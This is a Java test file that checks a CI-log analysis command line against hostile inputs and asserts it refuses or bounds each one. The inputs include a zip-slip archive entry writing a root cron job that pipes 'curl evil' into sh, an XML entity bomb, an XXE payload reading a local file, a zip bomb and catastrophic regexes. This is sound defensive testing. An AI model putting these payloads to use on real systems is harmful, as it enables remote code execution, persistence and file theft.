package org.cifailureagent.cli;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.BufferedOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.TimeUnit;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.junit.Rule;
import org.junit.Test;
import org.junit.rules.TemporaryFolder;

/**
 * Hostile input given to the command line as a separate JVM with {@code -Xmx256m}, as CI would run it. Each case
 * ends with a report (and warnings) or with exit 2 and a one-line message, within {@link #TIME_BOUND_SECONDS}; the
 * heap bound is the JVM's own, so an unbounded buffer would end in OutOfMemoryError (exit 1). Logs are generated
 * while they are streamed into standard input, never written to disk. CI runs them scaled down (a 128 MiB single
 * line, a 32 MiB all-error log, 20,000 report files); the full sizes of docs/security.md are the same test with
 * {@code -Dbounds.mib=1024 -Dbounds.error.mib=1024 -Dbounds.reports=100000} (benchmarks/hostile-bounds.sh).
 */
public class HostileInputProcessTest {
    static final int TIME_BOUND_SECONDS = 300;
    private static final long MIB = 1L << 20;
    private static final long SIZE = Long.getLong("bounds.mib", 128) * MIB;
    /** Every line a rule candidate costs ~0.5 s per MiB of CPU (RE2/J on each line), so CI runs a smaller one. */
    private static final long ERROR_LOG_SIZE = Long.getLong("bounds.error.mib", 32) * MIB;
    private static final ObjectMapper JSON = new ObjectMapper();

    @Rule
    public TemporaryFolder temp = new TemporaryFolder();

    record Run(int exit, String stdout, String stderr, double seconds, long peakRssKib) {
        JsonNode report() throws IOException {
            return JSON.readTree(stdout);
        }
    }

    @Test
    public void aLogWhereEveryLineLooksLikeAnErrorKeepsTheEvidenceBounded() throws Exception {
        long[] lines = {0};
        Run run = analyze(out -> {
            String[] errors = {
                "[ERROR] /home/runner/work/app/app/src/main/java/com/example/App%d.java:[%d,17] cannot find symbol\n",
                "src/parser.ts(%d,%d): error TS2304: Cannot find name 'tokenizer%d'.\n",
                "FAILED tests/test_api.py::test_case_%d - AssertionError: assert %d == 200\n",
                "npm ERR! code E%d npm ERR! 404 Not Found - GET https://registry.npmjs.org/pkg-%d\n",
                "error[E0425]: cannot find value `x%d` in this scope (line %d)\n"};
            long written = 0;
            for (long i = 0; written < ERROR_LOG_SIZE; i++) {
                byte[] line = String.format(errors[(int) (i % errors.length)], i, i % 997, i)
                        .getBytes(StandardCharsets.UTF_8);
                out.write(line);
                written += line.length;
                lines[0]++;
            }
        }, "analyze", "--format", "json", "-");

        assertThat(run.exit).as(run.stderr).isZero();
        JsonNode report = run.report();
        assertThat(report.get("totalLines").asLong()).isEqualTo(lines[0]);
        assertThat(report.get("rootCause").get("lines").size()).isLessThanOrEqualTo(20);
        assertThat(report.get("locations").size()).isLessThanOrEqualTo(1000);
        assertThat(run.stdout.length()).as("the report stays small").isLessThan(1 << 20);
        System.out.printf("all-error log: %d MiB, %d lines, %.1f s, %.1f MiB/s, peak RSS %d MiB, report %d KiB%n",
                ERROR_LOG_SIZE / MIB, lines[0], run.seconds, ERROR_LOG_SIZE / MIB / run.seconds, run.peakRssKib / 1024,
                run.stdout.length() / 1024);
    }

    @Test
    public void aSingleHugeLineIsCutNotBuffered() throws Exception {
        Run run = analyze(out -> {
            out.write("error: ".getBytes(StandardCharsets.UTF_8));
            byte[] chunk = "x".repeat(64 * 1024).getBytes(StandardCharsets.UTF_8);
            for (long written = 0; written < SIZE; written += chunk.length) {
                out.write(chunk);
            }
        }, "analyze", "--format", "json", "-");

        assertThat(run.exit).as(run.stderr).isZero();
        JsonNode report = run.report();
        assertThat(report.get("totalLines").asLong()).isEqualTo(1);
        assertThat(run.stdout.length()).isLessThan(1 << 20);
        System.out.printf("one-line log: %d MiB, %.1f s, peak RSS %d MiB%n", SIZE / MIB, run.seconds,
                run.peakRssKib / 1024);
    }

    @Test
    public void aZipWhoseEntryClimbsOutIsRefusedWithExit2() throws Exception {
        Path zip = temp.getRoot().toPath().resolve("logs.zip");
        try (ZipOutputStream out = new ZipOutputStream(Files.newOutputStream(zip))) {
            out.putNextEntry(new ZipEntry("build/1_Set up job.txt"));
            out.write("ok\n".getBytes(StandardCharsets.UTF_8));
            out.putNextEntry(new ZipEntry("../../etc/cron.d/evil"));
            out.write("* * * * * root sh -c 'curl evil | sh'\n".getBytes(StandardCharsets.UTF_8));
        }
        Run run = analyze(null, "analyze", zip.toString());

        assertThat(run.exit).isEqualTo(2);
        assertThat(run.stderr.strip()).startsWith("error: ").contains("points outside the archive")
                .doesNotContain("\n").doesNotContain("Exception");
    }

    @Test
    public void aZipBombOfNestedArchivesAndZerosIsSkippedAsBinary() throws Exception {
        Path zip = temp.getRoot().toPath().resolve("bomb.zip");
        byte[] zeros = new byte[1 << 20];
        try (ZipOutputStream out = new ZipOutputStream(Files.newOutputStream(zip))) {
            out.putNextEntry(new ZipEntry("build/2_Build.txt"));
            out.write("[ERROR] BUILD FAILURE\n".getBytes(StandardCharsets.UTF_8));
            for (int e = 0; e < 4; e++) {
                out.putNextEntry(new ZipEntry("build/zeros-" + e + ".txt"));
                for (int i = 0; i < 256; i++) {
                    out.write(zeros);
                }
            }
        }
        assertThat(Files.size(zip)).isLessThan(8 * MIB);
        Run run = analyze(null, "analyze", "--format", "json", zip.toString());

        assertThat(run.exit).as(run.stderr).isZero();
        assertThat(run.report().get("warnings").toString()).contains("looks binary; skipped");
    }

    @Test
    public void entityBombsAndExternalEntitiesInTestReportsAreSkippedWithAWarning() throws Exception {
        Path workspace = temp.newFolder("ws").toPath();
        Path reports = Files.createDirectories(workspace.resolve("target/surefire-reports"));
        Path secret = temp.newFile("secret.txt").toPath();
        Files.writeString(secret, "TOP-SECRET-CONTENT");
        StringBuilder bomb = new StringBuilder("<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n<!ENTITY lol \"lol\">\n");
        for (int i = 1; i <= 9; i++) {
            bomb.append("<!ENTITY lol").append(i).append(" \"").append(("&lol" + (i == 1 ? "" : i - 1) + ";")
                    .repeat(10)).append("\">\n");
        }
        bomb.append("]>\n<testsuite name=\"x\"><testcase name=\"t\"><failure message=\"&lol9;\"/></testcase>"
                + "</testsuite>\n");
        Files.writeString(reports.resolve("TEST-bomb.xml"), bomb);
        Files.writeString(reports.resolve("TEST-xxe.xml"), "<?xml version=\"1.0\"?>\n<!DOCTYPE t [<!ENTITY x "
                + "SYSTEM \"file://" + secret + "\">]>\n<testsuite name=\"x\"><testcase name=\"t\">"
                + "<failure message=\"&x;\">&x;</failure></testcase></testsuite>\n");
        Path log = temp.newFile("build.log").toPath();
        Files.writeString(log, "[ERROR] Tests run: 1, Failures: 1, Errors: 0, Skipped: 0\n[ERROR] BUILD FAILURE\n");

        Run run = analyze(null, "analyze", "--format", "json", "--workspace", workspace.toString(), log.toString());

        assertThat(run.exit).as(run.stderr).isZero();
        assertThat(run.stdout).doesNotContain("TOP-SECRET-CONTENT").doesNotContain("lollol");
        assertThat(run.report().get("warnings").toString()).contains("TEST-bomb.xml").contains("TEST-xxe.xml");
    }

    @Test
    public void pathologicalPatternsRunInLinearTimeAndDeepNestingIsRefused() throws Exception {
        Path rules = temp.newFile("rules.yaml").toPath();
        Files.writeString(rules, "version: hostile-1\nrules:\n  - id: catastrophic\n    category: test\n"
                + "    patterns:\n      - '(a+)+$'\n      - '(x+x+)+y'\n      - '^(a|a?)+b'\n");
        Run slowForBacktrackers = analyze(out -> {
            for (int i = 0; i < 500; i++) {
                out.write(("a".repeat(16_000) + "!\n").getBytes(StandardCharsets.UTF_8));
            }
        }, "analyze", "--format", "json", "--rules", rules.toString(), "-");
        assertThat(slowForBacktrackers.exit).as(slowForBacktrackers.stderr).isZero();

        Path nested = temp.newFile("nested.yaml").toPath();
        Files.writeString(nested, "version: 1\nrules: " + "[".repeat(10_000) + "]".repeat(10_000) + "\n");
        Run deep = analyze(null, "analyze", "--rules", nested.toString(), rules.toString());
        assertThat(deep.exit).isEqualTo(2);
        assertThat(deep.stderr.strip()).startsWith("error: ").contains("nested.yaml").doesNotContain("\n");

        Path huge = temp.newFile("huge.yaml").toPath();
        Files.writeString(huge, "version: 1\nrules:\n  - id: r\n    category: test\n    patterns: ['a{1000}{1000}']\n");
        Run repetition = analyze(null, "analyze", "--rules", huge.toString(), rules.toString());
        assertThat(repetition.exit).isEqualTo(2);
        assertThat(repetition.stderr.strip()).startsWith("error: ").doesNotContain("\n");
        System.out.printf("pathological patterns over 500 lines of 16 KB: %.1f s%n", slowForBacktrackers.seconds);
    }

    @Test
    public void aWorkspaceWithManyThousandReportFilesIsCappedWithAWarning() throws Exception {
        Path workspace = temp.newFolder("many").toPath();
        byte[] report = ("<testsuite name=\"s\"><testcase classname=\"a.B\" name=\"t\"><failure message=\"boom\"/>"
                + "</testcase></testsuite>\n").getBytes(StandardCharsets.UTF_8);
        int files = Integer.getInteger("bounds.reports", 20_000);
        for (int d = 0; d * 1000 < files; d++) {
            Path dir = Files.createDirectories(workspace.resolve("m" + d + "/target/surefire-reports"));
            for (int f = 0; f < 1000 && d * 1000 + f < files; f++) {
                Files.write(dir.resolve("TEST-T" + f + ".xml"), report);
            }
        }
        Path log = temp.newFile("build.log").toPath();
        Files.writeString(log, "[ERROR] Tests run: 1, Failures: 1\n[ERROR] BUILD FAILURE\n");

        Run run = analyze(null, "analyze", "--format", "json", "--workspace", workspace.toString(), log.toString());

        assertThat(run.exit).as(run.stderr).isZero();
        assertThat(run.report().get("warnings").toString()).contains("more than 2000 test reports");
        System.out.printf("workspace with %,d reports: %.1f s, peak RSS %d MiB%n", files, run.seconds,
                run.peakRssKib / 1024);
    }

    @FunctionalInterface
    interface Feeder {
        void feed(OutputStream stdin) throws IOException;
    }

    /** Runs the command line in its own JVM with -Xmx256m, feeding standard input while it runs. */
    static Run analyze(Feeder stdin, String... args) throws Exception {
        List<String> command = new ArrayList<>(List.of(Path.of(System.getProperty("java.home"), "bin", "java")
                .toString(), "-Xmx256m", "-cp", System.getProperty("java.class.path"), "org.cifailureagent.cli.Main"));
        command.addAll(List.of(args));
        long start = System.nanoTime();
        Process process = new ProcessBuilder(command).start();
        CompletableFuture<Void> feeding = CompletableFuture.runAsync(() -> {
            try (OutputStream in = new BufferedOutputStream(process.getOutputStream(), 1 << 16)) {
                if (stdin != null) {
                    stdin.feed(in);
                }
            } catch (IOException e) {
                throw new UncheckedIOException(e);
            }
        });
        CompletableFuture<byte[]> out = readAll(process.getInputStream());
        CompletableFuture<byte[]> err = readAll(process.getErrorStream());
        long peak = 0;
        while (!process.waitFor(100, TimeUnit.MILLISECONDS)) {
            peak = Math.max(peak, rssKib(process.pid()));
            if (System.nanoTime() - start > TimeUnit.SECONDS.toNanos(TIME_BOUND_SECONDS)) {
                process.destroyForcibly();
                throw new AssertionError("still running after " + TIME_BOUND_SECONDS + " s: " + command);
            }
        }
        double seconds = (System.nanoTime() - start) / 1e9;
        feeding.exceptionally(e -> null).join();
        return new Run(process.exitValue(), new String(out.join(), StandardCharsets.UTF_8),
                new String(err.join(), StandardCharsets.UTF_8), seconds, peak);
    }

    private static CompletableFuture<byte[]> readAll(InputStream in) {
        return CompletableFuture.supplyAsync(() -> {
            try {
                return in.readAllBytes();
            } catch (IOException e) {
                throw new UncheckedIOException(e);
            }
        });
    }

    /** The process's resident set now, from /proc; 0 where there is none. */
    private static long rssKib(long pid) {
        try {
            for (String line : Files.readAllLines(Path.of("/proc/" + pid + "/status"))) {
                if (line.startsWith("VmHWM:")) {
                    return Long.parseLong(line.replaceAll("[^0-9]", ""));
                }
            }
        } catch (IOException | RuntimeException e) {
            return 0;
        }
        return 0;
    }
}
